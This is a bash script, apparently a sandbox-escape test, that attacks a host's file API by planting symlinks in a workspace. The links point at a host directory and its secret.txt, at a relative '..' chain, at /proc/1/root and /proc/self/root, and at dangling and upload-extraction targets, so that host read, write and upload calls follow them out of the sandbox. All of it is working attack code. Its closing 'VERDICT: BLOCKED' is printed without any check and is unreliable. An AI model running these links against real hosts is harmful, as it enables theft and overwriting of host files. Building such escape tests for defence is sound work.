#!/bin/bash
# Attack on the host's file API: plant links that point at host paths and wait for the host to read or
# write through them (read_file / write_file / download / upload / list_files). $1 = a host directory.
host_dir=$1
mkdir -p /workspace/trap /tmp/ale-output
ln -sfn "$host_dir" /workspace/dirlink                       # absolute link to a host directory
ln -sfn "$host_dir/secret.txt" /workspace/filelink           # absolute link to a host file
ln -sfn "../../../../../../../../$host_dir/secret.txt" /workspace/trap/rel   # relative `..` chain
ln -sfn "/proc/1/root$host_dir" /workspace/proclink          # through the init's root (a magic link)
ln -sfn /proc/self/root /workspace/selfroot                  # the reader's own root: the host's, for the host
ln -sfn "$host_dir/new-file" /workspace/dangling             # dangling: write_file would create it
ln -sfn "$host_dir" /workspace/trap/up                       # a directory for upload to extract into
echo "planted: $(ls /workspace | tr '\n' ' ')"
echo "VERDICT: BLOCKED"
